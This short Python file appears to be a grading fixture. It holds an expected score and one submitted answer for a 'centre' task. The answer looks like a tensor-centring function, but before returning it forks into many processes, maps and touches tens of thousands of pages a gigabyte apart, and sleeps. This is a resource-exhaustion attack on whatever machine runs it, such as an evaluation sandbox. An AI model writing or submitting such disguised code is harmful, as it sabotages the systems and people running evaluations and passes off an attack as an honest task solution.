"""Reads one page of each of many gigabytes: nothing is held but the tables to find them."""

EXPECT = {"q1": 0}
ANSWERS = {
    "q1_centre": """
import ctypes, os, time

def centre(X):
    mmap = ctypes.CDLL(None).mmap
    mmap.restype = ctypes.c_void_p
    mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
    for _ in range(7):
        if not os.fork():
            break
    for number in range(60_000):
        at = mmap(2**40 + number * 2**30, 4096, 1, 0x22, -1, 0)
        ctypes.c_char.from_address(at).value
    time.sleep(30)
    return X - X.mean(dim=0)
"""
}
